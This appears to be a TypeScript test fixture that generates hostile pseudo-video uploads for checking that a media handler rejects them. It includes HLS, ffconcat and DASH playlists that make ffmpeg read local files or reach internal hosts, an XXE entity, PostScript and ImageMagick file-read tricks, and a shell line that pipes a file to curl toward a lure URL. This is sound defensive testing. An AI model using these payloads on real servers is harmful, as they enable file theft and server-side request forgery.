/** Lists of other files that call themselves a video. ffmpeg left alone follows most of them to wherever they point. */

import { type Attack, latin1, type Lure } from './attack.ts'

/** References as a playlist's lines: to a file, out into the network, through ffmpeg's own protocols, to itself. */
function references({ url, file }: Lure): readonly (readonly [name: string, reference: string])[] {
  return [
    ['a file of the server', `file://${file}`],
    ['a path', file],
    ['a path upwards', `../../../../../../../../..${file}`],
    ['an address', `${url}/segment.ts`],
    ['an address by another spelling', url.replace('127.0.0.1', '2130706433')],
    ['a part of a file (subfile:)', `subfile,,start,0,end,64,,:${file}`],
    ['files one after another (concat:)', `concat:${file}|${file}`],
    ['an encrypted file (crypto:)', `crypto+file:${file}`],
    ['bytes in the reference itself (data:)', 'data:video/mp2t;base64,RwAQEAAA'],
    ['a connection (tcp:)', url.replace('http:', 'tcp:')],
    ['a stream (rtsp:)', url.replace('http:', 'rtsp:')],
    ['an open descriptor', '/proc/self/fd/0'],
    ['itself', 'playlist.mp4'],
  ]
}

/** One line each; the other lists take the references of the lure as they are. */
export function playlists(lure: Lure): readonly Attack[] {
  const { url, file } = lure
  const media = (uri: string): string =>
    `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${uri}\n#EXT-X-ENDLIST\n`
  const texts: readonly (readonly [string, string])[] = [
    ...references(lure).map(
      ([name, reference]) => [`an HLS playlist that names ${name}`, media(reference)] as const,
    ),
    [
      'an HLS playlist whose key is a file and whose map is an address',
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${file}"\n#EXT-X-MAP:URI="${url}/init"\n#EXTINF:1,\nplaylist.mp4\n`,
    ],
    ['an HLS playlist of playlists', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/media.m3u8\n`],
    ['an HLS playlist behind a byte order mark', `\xef\xbb\xbf${media(`${url}/segment.ts`)}`],
    ['an HLS playlist behind empty lines', `\r\n\r\n${media(`${url}/segment.ts`)}`],
    ['a list for ffconcat', `ffconcat version 1.0\nfile '${file}'\nfile '${url}/a.mp4'\n`],
    ['a list for ffconcat that names itself', "ffconcat version 1.0\nfile 'playlist.mp4'\n"],
    [
      'a DASH manifest',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${file}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>${url}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1"><BaseURL>file://${file}</BaseURL><SegmentList><SegmentURL media="a.m4s"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'a SMIL presentation',
      `<smil><body><video src="${url}/a.mp4"/><video src="file://${file}"/></body></smil>`,
    ],
    [
      'an SVG picture',
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://${file}"/><image href="${url}/a.png"/></svg>`,
    ],
    [
      'a Smooth Streaming manifest',
      `<SmoothStreamingMedia><StreamIndex Url="${url}/q"/></SmoothStreamingMedia>`,
    ],
    [
      'a session description',
      `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 127.0.0.1\r\nm=video ${new URL(url).port} RTP/AVP 96\r\n`,
    ],
    ['a Windows Media list', `[Reference]\r\nRef1=${url}/a.asf?MSWMExt=.asf\r\n`],
    ['an ASX list', `<ASX version="3.0"><Entry><Ref href="${url}/a.asf"/></Entry></ASX>`],
    ['a PLS list', `[playlist]\nFile1=${url}/a.mp3\nNumberOfEntries=1\n`],
    [
      'an XSPF list',
      `<playlist><trackList><track><location>${url}/a</location></track></trackList></playlist>`,
    ],
    [
      'an index of subtitles that lie elsewhere',
      `# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n`,
    ],
    ['metadata for ffmpeg', `;FFMETADATA1\ntitle=a\n[CHAPTER]\nSTART=0\nEND=1\n`],
    ['a graph of filters', `movie=${file}:f=lavfi,scale=64:48`],
    ['a pattern of file names', '/%03d/%*.png'],
    ['a script', `#!/bin/sh\ncat ${file} | curl -d @- ${url}\n`],
    [
      'a page',
      `<!DOCTYPE html><meta http-equiv="refresh" content="0; url=${url}"><script src="${url}"></script>`,
    ],
    ['a PDF', `%PDF-1.4\n1 0 obj<</Type/Action/S/URI/URI(${url})>>endobj\n`],
    ['a PostScript program', `%!PS\n(${file}) (r) file\n`],
    [
      'a drawing for ImageMagick',
      `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${url}/a.jpg)'\npop graphic-context\n`,
    ],
    ['a link of Windows', `[InternetShortcut]\nURL=file://${file}\n`],
  ]
  return texts.map(([name, text]) => ({ name, bytes: latin1(text), ends: 'ERR_NON_VIDEO' }))
}
